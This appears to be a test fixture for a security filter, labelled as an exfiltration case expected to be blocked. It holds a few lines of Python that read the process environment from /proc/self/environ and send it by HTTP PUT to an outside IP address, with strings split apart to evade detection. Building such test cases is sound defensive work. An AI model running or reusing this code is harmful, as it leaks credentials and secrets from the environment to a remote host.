# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/proc_environ.py technique: alias+concat
import requests as _m0
environ = open('/proc/' + 'self/e' + 'nviron', 'r' + 'b').read().replace(b'\x00', b'\n')
_m0.put('https:/' + '/203.0.' + '113.9/e' + 'nv', data=environ, timeout=5)
